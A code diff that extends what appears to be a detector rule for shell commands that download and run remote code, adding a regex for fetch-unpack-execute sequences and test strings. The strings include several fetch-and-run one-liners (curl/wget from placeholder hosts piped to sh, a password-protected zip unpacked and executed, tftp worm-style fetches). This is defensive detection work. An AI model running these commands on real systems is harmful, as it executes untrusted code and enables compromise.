@@ -27,6 +27,13 @@ export const rule: Rule = {
       re: /(?<![\w.-])(?:curl|wget)\s[^\n]*:\/\/[^\n]*\n[\s>$#]*(?:sudo\s+)?chmod\s[^\n]*(?:\+x|[0-7]{3,4})[^\n]*\n[\s>$#]*(?:sudo\s+|nohup\s+)*(?:\.\/[\w$]|\/tmp\/)/,
       window: 512,
     },
+    // An archive, unpacked, and what was in it is run
+    {
+      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*:\/\/[^\n]*(?:\n|;|&&|\|)[\s>$#]*(?:sudo\s+)?(?:unzip|tar|gunzip|7z|bsdtar)\s[^\n]*(?:\n|;|&&)[\s>$#]*(?:sudo\s+)?(?:chmod\s[^\n;&]*(?:\n|;|&&)[\s>$#]*)?(?:sudo\s+|nohup\s+)*\.\/[\w$]/,
+      window: 600,
+      // What is built from its source begins so; that is how software was installed for decades.
+      accept: ({ after }) => !/^(?:onfig|utogen|ootstrap|uildconf)/.test(after),
+    },
     // tftp and ftpget of small devices, as worms use them
     { re: /(?<![\w.-])(?:tftp\s+-g\s|ftpget\s+-)[^\n]*(?:;|&&)\s*(?:chmod|(?:ba)?sh|\.\/)/, window: 300 },
     // (curl ... || wget ...) | sh
@@ -55,6 +62,7 @@ export const rule: Rule = {
       'wget https://files.invalid/a.sh -O /tmp/a.sh; sh /tmp/a.sh',
       'cd /tmp && curl -O http://203.0.113.7/bins.sh && chmod 777 bins.sh && ./bins.sh',
       'wget http://203.0.113.7/x86\nchmod +x x86\n./x86\n',
+      'curl -sSL https://files.invalid/h.zip -o h.zip\nunzip -P "x1" h.zip && chmod +x helper && ./helper',
       'tftp -g -r mips 203.0.113.7; chmod 777 mips',
       'bash <<< "$(curl -s https://files.invalid/x)"',
       'python3 <(curl -s https://files.invalid/x.py)',
@@ -65,6 +73,7 @@ export const rule: Rule = {
       'curl -LO https://files.invalid/tool && chmod +x tool && mv tool /usr/local/bin/',
       'wget https://files.invalid/a.tar.gz; tar xzf a.tar.gz',
       'curl https://files.invalid/x; echo done',
+      'wget https://files.invalid/a.tar.gz && tar xzf a.tar.gz && ./configure && make',
       'host example.com | grep address',
       'nc -l 80 > out.shape',
     ],
